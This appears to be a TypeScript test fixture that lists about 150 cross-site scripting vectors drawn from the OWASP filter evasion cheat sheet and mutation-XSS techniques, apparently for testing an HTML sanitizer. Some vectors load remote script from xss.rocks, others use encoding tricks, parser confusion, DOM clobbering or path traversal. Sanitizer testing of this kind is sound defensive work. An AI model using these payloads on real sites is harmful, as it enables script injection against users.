/**
 * Markup that runs a script. It covers the kinds of the OWASP Filter Evasion Cheat Sheet, and markup that two parsers
 * interpret differently (mutation XSS). Each vector calls `alert(1)`. Vectors that need a picture that fails to load use
 * the address `x`.
 */
export const xssVectors: Record<string, string> = {
  script: '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
  'a script tag in mixed case': '<ScRiPt>alert(1)</sCrIpT>',
  'a script tag inside a script tag': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script tag with a second bracket': '<<SCRIPT>alert(1);//<</SCRIPT>',
  'a script tag without an end': '<SCRIPT SRC=https://xss.rocks/xss.js?< B >',
  'a script tag with a slash before its attribute': '<SCRIPT/XSS SRC="https://xss.rocks/xss.js"></SCRIPT>',
  'a script tag with a bracket in an attribute': '<SCRIPT a=">" SRC="https://xss.rocks/xss.js"></SCRIPT>',
  'a script tag with a null character': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'a script that an attribute value ends': '<script>x="</script><img src=x onerror=alert(1)>"',
  'a script after the end of a title': '</TITLE><SCRIPT>alert(1)</SCRIPT>',
  'a script in a conditional comment': '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'a comment that ends with an exclamation mark': '<!-- --!><img src=x onerror=alert(1)> -->',
  'javascript:': '<IMG SRC="javascript:alert(1);">',
  'javascript: in a link': '<a href="javascript:alert(1)">x</a>',
  'javascript: in mixed case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'javascript: with a tab': '<a href="jav\tascript:alert(1)">x</a>',
  'javascript: with an encoded tab': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'javascript: with an encoded newline': '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  'javascript: after control characters': '<a href=" &#14;  javascript:alert(1)">x</a>',
  'javascript: after a null': '<a href="\u0000javascript:alert(1)">x</a>',
  'javascript: as decimal entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  'javascript: as decimal entities with leading zeros':
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  'javascript: as hexadecimal entities':
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  'javascript: with a named entity for the colon': '<a href="javascript&colon;alert(1)">x</a>',
  'javascript: behind an entity of an entity': '<a href="javascript&amp;#58;alert(1)">x</a>',
  'javascript: with backticks': '<a href=`javascript:alert("RSnake says, \'x\'")`>x</a>',
  'vbscript:': '<a href="vbscript:msgbox(1)">x</a>',
  'livescript:': '<a href="livescript:[code]">x</a>',
  'data: as a link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'blob: and filesystem:': '<a href="blob:https://club.example/1">x</a><a href="filesystem:x">y</a>',
  'an address of another site without a scheme':
    '<a href="//xss.rocks">x</a><a href="\\\\xss.rocks">y</a><a href="/\\xss.rocks">z</a>',
  'an address of another site after a tab': '<a href="/\t/xss.rocks">x</a>',
  'an event handler': '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  'an event handler on an image': '<IMG SRC=/ onerror="alert(1)"></img>',
  'an encoded event handler':
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
  'an event handler after a slash': '<p/onclick=alert(1)//x>y</p>',
  'an event handler after a quote': '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  'an event handler after a malformed attribute': '<a foo=">" onclick=alert(1) title=\'x\'>x</a>',
  'an event handler on body': '<BODY ONLOAD=alert(1)>',
  'an event handler in an alternative text':
    '<img src="/media/a-640.webp" alt="&quot; onerror=&quot;alert(1)">',
  'a style': '<p style="background:url(javascript:alert(1))">x</p>',
  'a style element': "<STYLE>@import'https://xss.rocks/xss.css';</STYLE>",
  'a style that ends early': '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  'a style sheet': '<LINK REL="stylesheet" HREF="https://xss.rocks/xss.css">',
  'an expression': '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
  'an SVG': '<svg/onload=alert(1)><script>alert(1)</script></svg>',
  'an SVG that animates a link':
    '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>y</a></svg>',
  'an object': '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.rocks/x.html"></OBJECT>',
  'an embed': '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml"></EMBED>',
  'a frame':
    '<IFRAME SRC="javascript:alert(1);"></IFRAME><frameset><frame src="javascript:alert(1)"></frameset>',
  'a frame with a document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a base': '<BASE HREF="javascript:alert(1);//">',
  'a meta': '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  'a form':
    '<form action="javascript:alert(1)"><input type=image formaction="javascript:alert(1)"><button formaction=x>y</button></form>',
  'a table': '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">x</TABLE>',
  'a picture of another site':
    '<img src="https://xss.rocks/x.png"><img src="//xss.rocks/x.png"><img srcset="https://xss.rocks/x.png 1x">',
  'a picture as data': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'a picture of the club that is missing': '<img src="/media/c-640.webp">',
  'a path below /media that leaves the folder': '<img src="/media/../api/auth/logout">',
  'a video': '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x>',
  'an unknown element': '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  'an element with a colon': '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  'a processing instruction': '<?xml version="1.0"?><?import namespace="t"?>',
  CDATA: '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'noscript with its end tag in an attribute':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'textarea with its end tag in an attribute':
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  'title with its end tag in an attribute': '<title><a href="</title><img src=x onerror=alert(1)>">',
  'xmp, plaintext and similar elements':
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><noembed><img src=x onerror=alert(1)></noembed><plaintext><img src=x onerror=alert(1)>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'MathML that HTML ends':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'SVG that HTML ends': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'nested forms': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'entities that decode to tags':
    '&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  'numeric entities that decode to tags': '&#60;script&#62;alert(1)&#x3c;/script&#x3E;',
  'full-width brackets': '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  'UTF-7': '+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-',
  'an attribute without an end': '<a href="https://club.example',
  'a tag without an end': '<p',
  'mismatched quotes': `<a href='https://club.example"onclick=alert(1)//'>x</a>`,
  'names of properties of Object.prototype': '<__proto__ constructor=x><p __proto__=x constructor=y>z</p>',
  // Vectors with SVG and MathML: text inside one namespace is an element inside another.
  'MathML with HTML in a text element':
    '<math><mi><svg><mi><table><mi><style><img src=x onerror=alert(1)></style></mi></table></mi></svg></mi></math>',
  'MathML with HTML in an annotation':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  'MathML with a link in maction':
    '<math><maction actiontype="statusline#http://xss.rocks" xlink:href="javascript:alert(1)">x</maction></math>',
  'SVG with HTML in a foreign object':
    '<svg><foreignObject><style><!--</style><img src=x onerror=alert(1)>--></style></foreignObject></svg>',
  'SVG with HTML in its title': '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  'SVG with noscript in its description':
    '<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></desc></svg>',
  'SVG that references another SVG':
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD14IG9ubG9hZD1hbGVydCgxKT4=#x"/></svg>',
  'SVG that sets a handler': '<svg><set attributeName=onmouseover to=alert(1)><a>y</a></svg>',
  'SVG with a script in CDATA': '<svg><script><![CDATA[alert(1)]]></script></svg>',
  'SVG with a handler of animation': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'a breakout from SVG by a paragraph': '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  'a breakout from MathML by a form':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  'a glyph in a table in MathML':
    '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  'a font element that ends SVG': '<svg><font color=x><img src=x onerror=alert(1)></font></svg>',
  // Vectors that change when a browser parses the output of a first parser again.
  'a table whose link moves in front of it':
    '<table><a href="<img src=x onerror=alert(1)>"><tr><td><p></table>',
  'a select element that hides tags': '<select><style></select><img src=x onerror=alert(1)></style>',
  'an option element that hides tags':
    '<select><option><textarea></option></select><img src=x onerror=alert(1)>',
  'a table in a table':
    '<table><tr><td><table><tr><td><svg><style></table><img src=x onerror=alert(1)></style>',
  'nested links': '<a href=/a><table><a href=/b><img src=x onerror=alert(1)></a></table></a>',
  'nested formatting (adoption agency algorithm)': '<b><p><i></b><img src=x onerror=alert(1)></i></p>',
  'a newline that the parser drops':
    '<pre>\n\n<img src=x onerror=alert(1)></pre><listing>\n<script>alert(1)</script></listing>',
  'a frameset instead of the body':
    '<div><frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
  'the element image instead of img': '<image src=x onerror=alert(1)>',
  'an isindex': '<isindex type=image src=x onerror=alert(1)>',
  'nested templates': '<template><template></template><img src=x onerror=alert(1)></template>',
  'a shadow root': '<p><template shadowrootmode=open><img src=x onerror=alert(1)></template></p>',
  'noscript in head': '<head><noscript><style></noscript><img src=x onerror=alert(1)></style></head>',
  'noembed and noframes': '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  'an attribute in backticks': '<img alt=`<img src=x onerror=alert(1)>` src=x>',
  'an attribute with a new line': '<a\nhref\n=\n"javas\ncript:alert(1)"\n>x</a>',
  'an attribute after a form feed': '<img\fsrc=x\fonerror=alert(1)>',
  'duplicate attributes':
    '<a href="https://club.example" href="javascript:alert(1)" onclick="x" onclick="alert(1)">x</a>',
  'attributes with slashes': '<img/src="x"/onerror="alert(1)"/x>',
  'an attribute whose name begins with a quote': `<img "onerror=alert(1)" ' src=x onerror=alert(1)>`,
  'an end tag with attributes': '<p>x</p onclick=alert(1) <img src=x onerror=alert(1)>>',
  'an end tag of a br': '</br onload=alert(1)><img src=x onerror=alert(1)></p onclick=alert(1)>',
  'a doctype in the middle': '<!DOCTYPE x [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;',
  'a comment that --!> ends': '<!--x--!><img src=x onerror=alert(1)><!--',
  'a comment of dashes': '<!--><!---><img src=x onerror=alert(1)>-->',
  'a bogus comment': '<?><img src=x onerror=alert(1)>?><//><img src=x onerror=alert(1)>',
  'CDATA in SVG': '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  // Vectors with event handlers that run without an action of the user.
  'details that is open': '<details open ontoggle=alert(1)>x</details>',
  'a marquee with a start handler': '<marquee onstart=alert(1)>x</marquee>',
  'a field with autofocus': '<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>',
  'a popover': '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>y</div>',
  'a style with an animation handler':
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>',
  'an editable element with autofocus': '<p contenteditable onfocus=alert(1) autofocus tabindex=0 id=x>x</p>',
  'an object with a data: address': '<object data="data:text/html,<script>alert(1)</script>"></object>',
  'a portal and a fenced frame':
    '<portal src="javascript:alert(1)"></portal><fencedframe src="javascript:alert(1)">',
  'a manifest and an import':
    '<html manifest=//xss.rocks><link rel=import href="data:text/html,<script>alert(1)</script>">',
  'a preload':
    '<link rel=preload as=script href=//xss.rocks/x.js><link rel=modulepreload href=//xss.rocks/x.js>',
  'a module': '<script type=module>alert(1)</script><script type=importmap>{"imports":{}}</script>',
  'a meta element with a security policy':
    '<meta http-equiv=Content-Security-Policy content="script-src *"><meta http-equiv=refresh content="0;url=data:text/html,x">',
  'a video with a poster': '<video poster=javascript:alert(1) src=x onerror=alert(1) autoplay></video>',
  'a source set':
    '<picture><source srcset="//xss.rocks/x.png" onerror=alert(1)><img srcset=x onerror=alert(1)></picture>',
  'an area':
    '<map name=x><area href=javascript:alert(1) shape=default></map><img usemap=#x src=/media/a-640.webp>',
  'a button with a script as form action':
    '<form id=x></form><button form=x formaction=javascript:alert(1)>x</button><isindex action=javascript:alert(1)>',
  // Vectors that overwrite names which the page's own script uses (DOM clobbering).
  'elements with names of global variables':
    '<form id=document name=location><input name=cookie><img name=currentScript id=ran></form><a id=window name=ran href=x>x</a>',
  // Vectors that encode parts of an address or of the markup.
  'javascript: with entities for line ends': '<a href="&#10;java&NewLine;script&Tab;&colon;alert(1)">x</a>',
  'javascript: after unusual spaces': '<a href="\u00a0\u2028javascript:alert(1)">x</a>',
  'javascript: with a soft hyphen': '<a href="java\u00adscript:alert(1)">x</a>',
  'javascript: in full-width letters': '<a href="\uff4aavascript:alert(1)">x</a>',
  'javascript: as a path':
    '<a href="/\tjavascript:alert(1)">x</a><a href="javascript://club.example/%0aalert(1)">y</a>',
  'data: in mixed case':
    '<a href="DaTa:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-">x</a>',
  'view-source: and similar schemes':
    '<a href="view-source:javascript:alert(1)">x</a><a href="intent://x#Intent;end">y</a><a href="feed:javascript:alert(1)">z</a>',
  'an entity without an end': '<a href="&#x6aavascript&#58alert(1)">x</a>',
  'a lone surrogate': '<p>\ud800<img src=x onerror=alert(1)>\udc00</p>',
  'a script as JavaScript escapes': '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  'an end tag of a script that contains the text': '</script><script>alert(1)</script><!--<script>',
  'line separators in a script that contains the text': '\u2028\u2029</ScRiPt ><img src=x onerror=alert(1)>',
}
